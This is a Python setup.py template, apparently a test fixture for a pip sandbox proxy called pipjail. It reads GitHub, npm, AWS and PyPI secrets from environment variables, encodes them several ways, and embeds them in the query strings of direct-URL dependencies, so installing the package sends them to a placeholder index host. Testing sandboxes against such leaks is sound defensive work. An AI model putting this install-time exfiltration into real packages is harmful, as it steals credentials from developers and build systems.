import base64
import os

from setuptools import setup

# Direct-URL requirements on the index pip is allowed to reach: pip itself
# fetches them, through pipjail's proxy, query string and all.
env = os.environ
plain = env.get("GITHUB_TOKEN", "")
pct = "".join("%%%02X" % b for b in env.get("NPM_TOKEN", "").encode())
b64 = base64.urlsafe_b64encode(env.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode()
hexed = env.get("PYPI_TOKEN", "").encode().hex()
base = "@@INDEX@@/files/"
requires = [
    "pjatk-depa @ %spjatk_depa-1.0-py3-none-any.whl?m=@@MARK@@&v=%s" % (base, plain),
    "pjatk-depb @ %spjatk_depb-1.0-py3-none-any.whl?m=@@MARK@@&v=%s" % (base, pct),
    "pjatk-depc @ %spjatk_depc-1.0-py3-none-any.whl?m=@@MARK@@&v=%s" % (base, b64),
    "pjatk-depd @ %spjatk_depd-1.0-py3-none-any.whl?m=@@MARK@@&v=%s" % (base, hexed),
]

setup(name="@@NAME@@", version="1.0", packages=["pjatk"], install_requires=requires)
